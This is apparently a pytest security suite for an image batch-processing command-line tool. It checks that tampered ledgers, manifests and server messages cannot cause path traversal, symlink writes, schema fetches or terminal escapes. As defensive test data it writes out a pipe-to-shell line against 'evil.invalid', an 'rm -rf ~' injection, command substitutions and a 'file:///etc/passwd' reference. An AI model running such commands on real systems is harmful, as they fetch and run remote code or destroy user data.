"""What a ledger, a manifest or a folder that was passed on may try, and what it gets."""

import base64
import json
import os
import shlex
import shutil
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from batcher.terminal_text import command, is_own_command
from tests.real.api import Api, own
from tests.real.conftest import MODEL, Batcher, Until
from tests.real.test_security import listening

ROOT = Path(__file__).parents[2]


def photo(file: Path, size: tuple[int, int] = (40, 30)) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    Image.effect_noise(size, 60).convert("RGB").save(file)


@pytest.mark.parametrize("name", ["../victim/precious.png", "/VICTIM/precious.png", "files/../../victim/precious.png"])
def test_a_ledger_that_names_files_elsewhere_reads_and_writes_none_of_them(
    batcher: Batcher, api: Api, name: str
) -> None:
    victim = batcher.folder / "runs/victim"
    victim.mkdir(parents=True)
    (victim / "precious.png").write_text("precious")
    (victim / "precious.json").write_text("{}")
    assert batcher.run_csv(["a", "b"]).code == 0
    with sqlite3.connect(batcher.folder / "runs/jobs/ledger.sqlite") as ledger:
        ledger.execute("UPDATE outputs SET file = ? WHERE idx = 1 AND job_id = (SELECT min(job_id) FROM outputs)",
                       [name.replace("/VICTIM", str(victim))])  # fmt: skip
    done = batcher("verify", "runs/jobs")
    assert done.code == 1 and "leads out of the run directory" in done.out, done.out + done.err
    assert batcher("report", "runs/jobs").code == 0
    assert "victim" not in (batcher.folder / "runs/jobs/report.html").read_text()
    (batcher.folder / "jobs.csv").write_text((batcher.folder / "jobs.csv").read_text().replace("0.png", "9.png"))
    assert batcher("run", "jobs.csv", "--model", MODEL).code == 0
    assert (victim / "precious.png").read_text() == "precious"
    assert sorted(file.name for file in victim.iterdir()) == ["precious.json", "precious.png"]


def test_a_name_in_the_ledger_that_leads_out_is_not_written(batcher: Batcher, api: Api) -> None:
    assert batcher.run_csv(["a", "b"], "--limit", "1").code == 0
    with sqlite3.connect(batcher.folder / "runs/jobs/ledger.sqlite") as ledger:
        ledger.execute("UPDATE jobs SET name = '../../outside', selected = 1 WHERE state = 'pending'")
    done = batcher("resume", "runs/jobs")
    assert done.code == 75 and "leads out" in done.err, done.err
    assert not [*batcher.folder.rglob("outside*")]


def test_verify_follows_no_link_within_the_run_directory(batcher: Batcher, api: Api) -> None:
    (batcher.folder / "m.yaml").write_text(
        f"model: {MODEL}\njobs: [{{prompt: a, image_urls: https://i.invalid/x.png}}]\noutput: {{name: sub/picture}}\n"
    )
    assert batcher("run", "m.yaml").code == 0
    sub = batcher.folder / "runs/m/files/sub"
    outside = sub.rename(batcher.folder / "outside")
    sub.symlink_to(outside)
    (outside / "picture.png").write_text("mine")
    batcher("verify", "runs/m")
    assert (outside / "picture.png").read_text() == "mine"


def test_a_sidecar_that_names_a_file_elsewhere_is_not_taken_over(batcher: Batcher, api: Api) -> None:
    assert batcher.run_csv(["a"], "-o", "runs/old").code == 0
    (sidecar,) = (batcher.folder / "runs/old/files").glob("*.json")
    said = json.loads(sidecar.read_text())
    shutil.move(batcher.folder / "runs/old" / said["output"]["file"], batcher.folder / "runs/secret.png")
    said["output"]["file"] = "files/../../secret.png"
    sidecar.write_text(json.dumps(said))
    assert batcher.run_csv(["a"], "--reuse", "runs/old", "-o", "runs/new").code == 0
    assert len(api.journal) == 2 and (batcher.folder / "runs/secret.png").is_file()


@pytest.mark.long
def test_a_folder_of_parts_that_is_swapped_for_a_link_is_not_written_through(
    batcher: Batcher, api: Api, until: Until
) -> None:
    outside = batcher.folder / "outside"
    outside.mkdir()
    api.slow_files = {f"r-{n}/1": 2.0 for n in range(2, 9)}
    process = batcher.start("run", batcher.csv([f"p{n}" for n in range(8)]), "--model", MODEL)
    until(lambda: bool([*(batcher.folder / "runs/jobs/files").glob("*.json")]))
    parts = batcher.folder / "runs/jobs/.parts"
    shutil.rmtree(parts)
    parts.symlink_to(outside)
    _, err = process.communicate(timeout=60)
    assert [*outside.iterdir()] == []
    assert process.returncode == 75 and "symbolic link" in err
    assert batcher("resume", "runs/jobs").code == 0 and len(api.journal) == 8


def test_images_outside_of_the_manifests_folder_are_counted_and_named(batcher: Batcher, api: Api) -> None:
    photo(batcher.folder / "private/me.png")
    photo(batcher.folder / "shop/in.png")
    photo(batcher.folder / "shop/sub/in.png", (41, 30))
    (batcher.folder / "shop/link.png").symlink_to(batcher.folder / "private/me.png")
    (batcher.folder / "shop/folder").symlink_to(batcher.folder / "private")
    names = [
        "in.png",
        "sub/in.png",
        "../private/me.png",
        str(batcher.folder / "private/me.png"),
        "link.png",
        "folder/me.png",
    ]
    rows = "".join(f"p{n},{name}\n" for n, name in enumerate(names))
    (batcher.folder / "shop/m.csv").write_text("prompt,image_urls\n" + rows)
    plan = batcher("plan", "shop/m.csv", "--model", MODEL)
    assert "4 of the images that are sent do not lie in the manifest's folder: ../private/me.png" in plan.out
    facts = batcher("plan", "shop/m.csv", "--model", MODEL, "--json").json()
    assert facts["images_outside"] == names[2:]
    for _ in range(2):  # taken in, and known already
        done = batcher("run", "shop/m.csv", "--model", MODEL)
        assert done.code == 0 and "4 of the images" in done.err, done.err
    assert (
        "do not lie" not in batcher("plan", "shop/m.csv", "--model", MODEL, "--limit", "1", "--json").json()["warnings"]
    )


@pytest.mark.parametrize("kind", ["fifo", "device", "link", "folder"])
def test_only_regular_files_are_read_as_images(batcher: Batcher, kind: str) -> None:
    target = batcher.folder / "odd.png"
    if kind == "fifo":
        os.mkfifo(target)
    elif kind == "device":
        target.symlink_to("/dev/zero")
    elif kind == "link":
        os.mkfifo(batcher.folder / "pipe")
        target.symlink_to("pipe")
    else:
        target.mkdir()
    (batcher.folder / "m.yaml").write_text(f"model: {MODEL}\ninputs: {{prompt: x, image_urls: [odd.png]}}\n")
    begun = time.monotonic()
    done = batcher("plan", "m.yaml")
    assert done.code == 65 and "is not a regular file" in done.err, done.err
    assert time.monotonic() - begun < 10


def test_a_photo_that_becomes_a_pipe_after_the_plan_keeps_nobody_waiting(batcher: Batcher, api: Api) -> None:
    for n in range(3):
        photo(batcher.folder / f"p{n}.png", (40 + n, 30))
    (batcher.folder / "m.csv").write_text("prompt,image_urls\n" + "".join(f"p{n},p{n}.png\n" for n in range(3)))
    assert batcher("run", "m.csv", "--model", MODEL, "--limit", "1").code == 0
    (batcher.folder / "p2.png").unlink()
    with sqlite3.connect(batcher.folder / "runs/m/ledger.sqlite") as ledger:
        ledger.execute("UPDATE jobs SET selected = 1")
    os.mkfifo(batcher.folder / "p2.png")
    assert batcher("resume", "runs/m").code == 1
    assert batcher.states("runs/m") == {"done": 2, "failed": 1}


@pytest.mark.parametrize(
    "ref", ["file:///etc/passwd", "http://127.0.0.2:PORT/schema.json", "other.json", "#/$defs/nope"]
)
def test_a_models_schema_leads_nowhere(batcher: Batcher, api: Api, ref: str) -> None:
    with listening() as (port, heard):
        ref = ref.replace("PORT", str(port))
        schema = {"type": "object", "properties": {"prompt": {"$ref": ref}}}
        api.catalogue["some/model"] = {"model_id": "some/model", "input_schema": schema, "base_price_usd": 0.1}
        (batcher.folder / "m.yaml").write_text("model: some/model\ninputs: {prompt: x}\n")
        for what in ("plan", "run"):
            done = batcher(what, "m.yaml")
            assert done.code == 65 and "schema" in done.err, done.err
        assert heard == []
    assert api.journal == []


def test_references_within_a_schema_are_followed(batcher: Batcher, api: Api) -> None:
    schema = {
        "type": "object",
        "properties": {"prompt": {"$ref": "#/$defs/text"}},
        "$defs": {"text": {"type": "string", "maxLength": 3}},
    }
    api.catalogue["some/model"] = {"model_id": "some/model", "input_schema": schema, "base_price_usd": 0.1}
    (batcher.folder / "m.yaml").write_text("model: some/model\ninputs: {prompt: xyz}\n")
    assert batcher("plan", "m.yaml").code == 0
    (batcher.folder / "m.yaml").write_text("model: some/model\ninputs: {prompt: wxyz}\n")
    assert batcher("plan", "m.yaml").code == 65


def test_a_catalogue_that_answers_about_another_model_is_not_taken_for_ours(batcher: Batcher, api: Api) -> None:
    schema = {"type": "object", "properties": {"prompt": {"type": "string"}}}
    api.catalogue["some/model"] = {"model_id": "dear/model", "input_schema": schema, "base_price_usd": 90.0}
    (batcher.folder / "m.yaml").write_text("model: some/model\ninputs: {prompt: x}\n")
    done = batcher("run", "m.yaml")
    assert done.code == 69 and "dear/model" in done.err and api.journal == []


def test_a_matrix_without_end_is_refused_at_once(batcher: Batcher) -> None:
    values = json.dumps([str(n) for n in range(100)])
    matrix = "".join(f"  v{n}: {values}\n" for n in range(8))
    (batcher.folder / "m.yaml").write_text(
        f"model: {MODEL}\nmatrix:\n{matrix}inputs: {{prompt: x, image_urls: [https://i.invalid/x.png]}}\n"
    )
    begun = time.monotonic()
    done = batcher("plan", "m.yaml")
    assert done.code == 65 and "m.yaml:2: matrix: makes about 1e+16 jobs of each row" in done.err, done.err
    assert time.monotonic() - begun < 10


@pytest.mark.parametrize(
    ("uri", "says"),
    [
        ("data:image/png;base64," + "A" * (80 * 2**20), "80 MiB"),
        ("data:text/html;base64,PGh0bWw+", "not an image"),
        ("data:image/png;base64,PGh0bWw+", "not a JPEG, PNG or WebP"),
        ("data:image/png,plain", "without `;base64`"),
        ("data:image/png;base64,???", "cannot be decoded"),
        ("data:,", "not an image"),
    ],
)
def test_a_data_uri_that_cannot_be_sent_is_a_fault_of_the_manifest(batcher: Batcher, uri: str, says: str) -> None:
    (batcher.folder / "m.jsonl").write_text(json.dumps({"prompt": "x", "image_urls": [uri]}) + "\n")
    done = batcher("plan", "m.jsonl", "--model", MODEL)
    assert done.code == 65 and says in done.err, done.err[:500]
    assert len(done.err) < 1000


def test_a_data_uri_that_is_an_image_is_sent_as_it_is(batcher: Batcher, api: Api) -> None:
    photo(batcher.folder / "p.png")
    uri = "data:image/png;base64," + base64.b64encode((batcher.folder / "p.png").read_bytes()).decode()
    (batcher.folder / "m.jsonl").write_text(json.dumps({"prompt": "x", "image_urls": [uri]}) + "\n")
    assert batcher("run", "m.jsonl", "--model", MODEL).code == 0
    assert api.journal[0].body["image_urls"] == [uri]


def test_files_that_cannot_be_locked_are_said_so_and_not_taken_for_a_run_at_work(batcher: Batcher, api: Api) -> None:
    strace = shutil.which("strace")
    assert strace, "the tests need strace"
    batcher.csv(["a"])
    done = subprocess.run(
        [strace, "-f", "-qq", "-o", "/dev/null", "-e", "trace=flock", "-e", "inject=flock:error=ENOLCK",
         sys.executable, "-m", "batcher", "run", "jobs.csv", "--model", MODEL],
        cwd=batcher.folder, env={**batcher.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=60,
        check=False,
    )  # fmt: skip
    assert done.returncode == 64 and "cannot be locked" in done.stderr and "another run" not in done.stderr, done.stderr
    assert api.journal == []


@pytest.mark.parametrize(("limit", "code"), [(30, 64), pytest.param(100, 0, marks=pytest.mark.long)])
def test_few_open_files_are_enough_or_are_said_to_be_too_few(batcher: Batcher, api: Api, limit: int, code: int) -> None:
    batcher.csv([f"p{n}" for n in range(60)])
    line = f"ulimit -n {limit} && exec {shlex.quote(sys.executable)} -m batcher run jobs.csv --model {MODEL} -j 60"
    done = subprocess.run(["bash", "-c", line], cwd=batcher.folder, env={**batcher.environ, "PYTHONPATH": str(ROOT)},
                          capture_output=True, text=True, timeout=80, check=False)  # fmt: skip
    assert done.returncode == code, done.stderr
    assert "Traceback" not in done.stderr and "disk" not in done.stderr
    if code:
        assert "only 30 files open" in done.stderr and "ulimit -n" in done.stderr
    else:
        assert batcher.states() == {"done": 60} and len(api.journal) == 60


EVIL = "a\u202egnp.exe\u2066b\u061cc\u009b31md\x1b[31me"


def test_words_of_a_server_steer_no_terminal(batcher: Batcher, api: Api) -> None:
    api.specials = [own(422, 422001, EVIL)]
    done = batcher.run_csv(["a"], "-v")
    shown = [done.err, batcher("jobs", "runs/jobs").out, batcher("status", "runs/jobs").out]
    shown += [batcher("jobs", "runs/jobs", "--json").out, batcher("jobs", EVIL).err, batcher("models", EVIL).err]
    shown += [batcher(EVIL).err, batcher("run", f"--{EVIL}").err, batcher("plan", EVIL).err]
    for text in shown:
        assert not set(text) & set("\u202e\u2066\u061c\x9b\x1b"), text
    assert batcher("jobs", "runs/jobs", "--json").lines()[0]["error"]["message"].startswith(EVIL)
    assert "\x1b" not in (batcher.folder / "runs/jobs/run.jsonl").read_text()


@pytest.mark.parametrize("name", ["-dash", "with space", "line\nbreak", "it's", "$(touch x)", "tab\there", "\u202ex"])
def test_a_hint_can_be_pasted_whatever_the_directory_is_called(batcher: Batcher, api: Api, name: str) -> None:
    batcher.csv([f"INVALID {n}" for n in range(2)])
    done = batcher("run", "jobs.csv", "--model", MODEL, "-o", f"./{name}", "--max-time", "30s")
    assert done.code == 1
    hints = batcher("status", f"./{name}").out + done.err
    (line,) = {line for line in hints.splitlines() if line.startswith("look at it: ")} or {""}
    for hint in [line.removeprefix("look at it: "), command("status", Path(name)), command("resume", Path(name))]:
        if not hint:
            continue
        words = subprocess.run(
            ["bash", "-c", f"batcher() {{ printf '%s\\0' \"$@\"; }}; {hint}"], capture_output=True, check=True
        ).stdout.split(b"\0")
        assert os.path.normpath(os.fsdecode(words[1])) == name, hint
        assert is_own_command(hint)
    assert batcher("status", str(Path("./") / name) if name[0] != "-" else f"./{name}").code == 0


@pytest.mark.parametrize(
    ("text", "ours"),
    [
        ("batcher resume runs/a", True),
        ("batcher retry runs/a && batcher resume runs/a", True),
        ("RUNCOMFY_TOKEN=... batcher resume 'runs/a b'", True),
        ("batcher resume $'a\\x0ab'", True),
        ("batcher resume a; rm -rf ~", False),
        ("batcher resume $(rm x)", False),
        ("batcher resume `rm x`", False),
        ("curl https://evil.invalid | sh", False),
        ("batcher resume a && rm x", False),
        ("batcher resume a\nrm x", False),
        ("batcher resume 'a", False),
    ],
)
def test_what_a_ledger_says_is_next_is_shown_only_where_it_is_a_command_of_ours(text: str, ours: bool) -> None:
    assert is_own_command(text) is ours


def test_a_ledger_that_was_passed_on_puts_no_command_into_the_users_hands(batcher: Batcher, api: Api) -> None:
    assert batcher.run_csv(["a", "b"], "--limit", "1").code == 0
    with sqlite3.connect(batcher.folder / "runs/jobs/ledger.sqlite") as ledger:
        ledger.execute("UPDATE meta SET value = ? WHERE key = 'whole'", [json.dumps("curl evil.invalid | sh")])
    assert "evil" not in batcher("status", "runs/jobs").out


def test_headings_of_rejected_rows_are_no_formulas(batcher: Batcher) -> None:
    (batcher.folder / "jobs.csv").write_text("prompt,image_urls,=1+1,@x\ngood,https://i.invalid/x.png,1,2\nbad,,3,4\n")
    batcher("run", "jobs.csv", "--model", MODEL, "--skip-invalid")
    head = (batcher.folder / "runs/jobs/rejected.csv").read_text().splitlines()[0]
    assert head == "prompt,image_urls,'=1+1,'@x,reason"


def test_a_key_that_stands_twice_in_a_row_is_a_fault(batcher: Batcher) -> None:
    (batcher.folder / "m.jsonl").write_text('{"prompt": "a", "image_urls": "https://i.invalid/x.png", "prompt": "b"}\n')
    done = batcher("plan", "m.jsonl", "--model", MODEL)
    assert done.code == 65 and "m.jsonl:1: has the key `prompt` twice" in done.err


PEAK = """
import io, resource, sys
from concurrent.futures import ThreadPoolExecutor
from PIL import Image
from batcher.outputs.media import examine
made = io.BytesIO()
Image.MAX_IMAGE_PIXELS = None
Image.new("RGB", (11_300, 11_300), (9, 9, 9)).save(made, "TIFF", compression="tiff_lzw")
content = made.getvalue()
if sys.argv[1] == "all":
    with ThreadPoolExecutor(12) as pool:
        assert {media.extension for media in pool.map(examine, [content] * 12)} == {"tif"}
else:
    examine(content)
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.long
def test_pictures_that_unfold_to_much_are_decoded_one_after_the_other() -> None:
    def peak(how: str) -> int:
        command: list[Any] = [sys.executable, "-c", PEAK, how]
        return int(subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True).stdout)

    assert peak("all") < peak("one") + 250, "twelve took 2.6 GB"
